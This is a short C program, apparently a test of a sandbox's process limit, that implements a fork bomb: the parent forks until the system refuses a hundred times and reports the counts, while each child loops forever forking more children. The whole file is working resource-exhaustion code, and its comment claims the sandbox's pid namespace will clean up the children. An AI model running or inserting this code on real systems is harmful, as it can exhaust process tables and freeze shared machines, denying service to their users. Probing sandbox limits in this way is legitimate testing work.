// Attacks the process limit: a fork bomb whose every child forks again, forever.
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  long made = 0, refused = 0;
  int first_error = 0;
  while (refused < 100) {
    pid_t pid = fork();
    if (pid == 0) {
      for (;;) fork(); // every child is a bomb of its own
    }
    if (pid > 0) {
      made++;
    } else {
      if (refused == 0) first_error = errno;
      refused++;
    }
  }
  printf("forks made: %ld, refused: %ld (%s)\n", made, refused, strerror(first_error));
  // Returning ends the sandbox's pid namespace, and every child with it.
  return 0;
}
